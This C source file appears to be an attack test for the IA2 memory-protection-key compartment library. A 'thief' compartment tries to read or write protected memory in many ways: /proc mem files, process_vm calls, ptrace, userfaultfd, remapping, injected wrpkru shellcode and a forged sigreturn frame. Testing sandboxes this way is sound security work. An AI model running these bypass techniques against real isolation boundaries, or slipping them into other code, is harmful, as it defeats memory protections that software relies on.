#define _GNU_SOURCE
#include <ia2.h>
#include <attack.h>
#include <cpuid.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>
#include "parts.h"
#define IA2_COMPARTMENT 2
#include <ia2_compartment_init.inc>

/* On key 0, for signal frames and code. */
#define FRAME_COPY 0x200000500000UL
#define CODE 0x200000600000UL

int thief_honest(const char *text) { return (int)strlen(text); }

static void failed(const char *what) { printf("%s: %s\n", what, strerror(errno)); }

/* Reads or writes through one of the names of /proc/self/mem. */
static void by_file(const char *path, unsigned char *target, int write_it)
{
    unsigned char bytes[16] = { 0 };
    int memory = open(path, O_RDWR);
    ssize_t done;

    done = write_it ? pwrite(memory, bytes, 16, (off_t)(unsigned long)target)
                    : pread(memory, bytes, 16, (off_t)(unsigned long)target);
    if (done != 16)
        failed(path);
    else if (!write_it)
        take(bytes, 16);
    close(memory);
}

static void by_vm_call(unsigned char *target, int write_it)
{
    unsigned char bytes[16] = { 0 };
    struct iovec here = { bytes, 16 }, there = { target, 16 };
    ssize_t done = write_it ? process_vm_writev(getpid(), &here, 1, &there, 1, 0)
                            : process_vm_readv(getpid(), &here, 1, &there, 1, 0);

    if (done != 16)
        failed("process_vm");
    else if (!write_it)
        take(bytes, 16);
}

/* A child of the process reads its parent. */
static void by_ptrace(unsigned char *target)
{
    pid_t parent = getpid(), child = fork();
    long word;

    if (child == 0) {
        if (ptrace(PTRACE_ATTACH, parent, 0, 0))
            failed("ptrace");
        waitpid(parent, NULL, 0);
        errno = 0;
        word = ptrace(PTRACE_PEEKDATA, parent, target, 0);
        if (errno)
            failed("peek");
        else
            take(&word, 8);
        ptrace(PTRACE_DETACH, parent, 0, 0);
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

static void by_userfault(unsigned char *page)
{
    int faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
    struct uffdio_api api = { .api = UFFD_API };
    struct uffdio_register range = { { (unsigned long)page, 4096 }, UFFDIO_REGISTER_MODE_MISSING, 0 };
    static unsigned char content[4096] __attribute__((aligned(4096)));
    struct uffdio_copy copy = { (unsigned long)page, (unsigned long)content, 4096, 0, 0 };

    if (ioctl(faults, UFFDIO_API, &api) || ioctl(faults, UFFDIO_REGISTER, &range))
        failed("userfaultfd");
    if (madvise(page, 4096, MADV_DONTNEED) || ioctl(faults, UFFDIO_COPY, &copy))
        failed("copy");
    close(faults);
}

/* `xor ecx, ecx; xor edx, edx; xor eax, eax; wrpkru; ret`: all rights. */
static const unsigned char all_rights[] = {
    0xf3, 0x0f, 0x1e, 0xfa, 0x31, 0xc9, 0x31, 0xd2, 0x31, 0xc0, 0x0f, 0x01, 0xef, 0xc3,
};
static void run(void *code)
{
    __asm__ volatile("callq *%0" : : "r"(code) : "rax", "rcx", "rdx", "memory");
}

static void by_code(unsigned char *target, unsigned char *code, size_t size)
{
    if (code == (unsigned char *)CODE)
        code = mmap((void *)CODE, size, PROT_READ | PROT_WRITE | PROT_EXEC,
                    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    else if (mprotect((void *)((unsigned long)code & ~4095ul), 2 * size, PROT_READ | PROT_WRITE | PROT_EXEC))
        failed("mprotect");
    memcpy(code, all_rights, sizeof all_rights);
    run(code);
    take(target, 16);
}

/* The kernel starts it with the rights of nobody; it may touch key 0 only. */
static void edit_frame(int signal, siginfo_t *info, void *context)
{
    ucontext_t *frame = context;
    unsigned int size, offset, c, d;

    __cpuid_count(0xd, 9, size, offset, c, d);
    if (BOARD->scratch[0]) {
        /* Keeps a copy for later, with all rights and another place to go on. */
        ucontext_t *copy = (ucontext_t *)(FRAME_COPY + 8);
        __builtin_memcpy(copy, frame, sizeof *frame);
        copy->uc_mcontext.fpregs = (void *)(FRAME_COPY + 4096);
        /* The kernel says how large the extended state is (struct _fpx_sw_bytes). */
        size = *(unsigned int *)((char *)frame->uc_mcontext.fpregs + 468);
        __builtin_memcpy(copy->uc_mcontext.fpregs, frame->uc_mcontext.fpregs, size);
        copy->uc_mcontext.gregs[REG_RIP] = (long)BOARD->scratch[1];
        *(unsigned int *)((char *)copy->uc_mcontext.fpregs + offset) = 0;
        return;
    }
    *(unsigned int *)((char *)frame->uc_mcontext.fpregs + offset) = 0;
    (void)signal, (void)info, (void)size;
}

static void use_signal(void)
{
    static char stack[1 << 16];
    stack_t alternate = { .ss_sp = stack, .ss_size = sizeof stack };
    struct sigaction action = { 0 };

    mmap((void *)FRAME_COPY, 1 << 16, PROT_READ | PROT_WRITE,
         MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    action.sa_sigaction = IA2_IGNORE(edit_frame);
    action.sa_flags = SA_SIGINFO | SA_ONSTACK;
    /* Compartments have an alternate stack that the kernel can write to. */
    if (!ia2_get_pkru())
        sigaltstack(&alternate, NULL);
    sigaction(SIGUSR2, &action, NULL);
    raise(SIGUSR2);
}

static unsigned char *stolen_from;
__attribute__((noinline)) static void after_sigreturn(void)
{
    take(stolen_from, 16);
    _exit(0);
}

static void map_over(unsigned char *page)
{
    if (mmap(page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != page)
        failed("mmap");
}

static int pipe_with(const void *from, size_t size, void *to)
{
    int ends[2];

    if (pipe(ends) || write(ends[1], from, size) != (ssize_t)size || read(ends[0], to, size) != (ssize_t)size) {
        failed("pipe");
        return 0;
    }
    return 1;
}

void thief_ask_kernel(int how, unsigned char *target)
{
    unsigned char bytes[16] = { 0 };
    unsigned char *page = (unsigned char *)((unsigned long)target & ~4095ul);
    struct iovec vector = { target, 16 };
    char path[64];
    int ends[2], key;

    switch (how) {
    case PROC_MEM: by_file("/proc/self/mem", target, 0); break;
    case PROC_MEM_WRITE: by_file("/proc/self/mem", target, 1); break;
    case THREAD_MEM: by_file("/proc/thread-self/mem", target, 0); break;
    case TASK_MEM:
        snprintf(path, sizeof path, "/proc/%d/task/%d/mem", getpid(), gettid());
        by_file(path, target, 0);
        break;
    case VM_READ: by_vm_call(target, 0); break;
    case VM_WRITE: by_vm_call(target, 1); break;
    case PTRACE: by_ptrace(target); break;
    case MAP_OVER: map_over(page); break;
    case UNMAP:
        munmap(page, 4096);
        map_over(page);
        break;
    case MOVE:
        if (mremap(page, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, CODE) == MAP_FAILED)
            failed("mremap");
        map_over(page);
        break;
    case PKEY_MPROTECT:
        if (syscall(SYS_pkey_mprotect, page, 4096, PROT_READ | PROT_WRITE, 0))
            failed("pkey_mprotect");
        take(target, 16);
        break;
    case PKEY_ALLOC:
        pkey_free(1);
        key = (int)syscall(SYS_pkey_alloc, 0, 0);
        printf("key %d\n", key);
        take(target, 16);
        break;
    case MPROTECT_CODE: by_code(target, IA2_IGNORE((unsigned char *)thief_gate), 4096); break;
    case RWX: by_code(target, (unsigned char *)CODE, 4096); break;
    case DONT_NEED:
        if (madvise(page, 4096, MADV_DONTNEED))
            failed("madvise");
        break;
    case USERFAULT: by_userfault(page); break;
    case SHARED_MEMORY:
        if (shmat(shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600), page, SHM_REMAP) == (void *)-1)
            failed("shmat");
        break;
    case HANDLER_PKRU:
        use_signal();
        take(target, 16);
        break;
    case SIGRETURN:
        stolen_from = target;
        BOARD->scratch[0] = 1;
        BOARD->scratch[1] = (unsigned long)IA2_IGNORE((void *)after_sigreturn);
        use_signal();
        __asm__ volatile("movq %0, %%rsp\n movl $15, %%eax\n syscall" : : "r"(FRAME_COPY + 8) : "memory");
        break;
    case WRITE_CALL:
        if (pipe_with(target, 16, bytes))
            take(bytes, 16);
        break;
    case READ_CALL: pipe_with(bytes, 16, target); break;
    case SPLICE:
        if (pipe(ends) || vmsplice(ends[1], &vector, 1, 0) != 16 || read(ends[0], bytes, 16) != 16)
            failed("vmsplice");
        else
            take(bytes, 16);
        break;
    case FUTEX:
        /* Tells whether the word is what is guessed; here the guess is right. */
        memcpy(bytes, (void *)BOARD->scratch, 4);
        if (syscall(SYS_futex, target, FUTEX_WAIT, *(int *)bytes, &(struct timespec){ 0, 1000000 }, NULL, 0)
            && errno == ETIMEDOUT)
            BOARD->breached = 1;
        else
            failed("futex");
        break;
    default:
        if (mprotect(page, 4096, PROT_READ | PROT_WRITE))
            failed("mprotect");
        take(target, 16);
        break;
    }
}

int thief_gate(int number) { return number; }
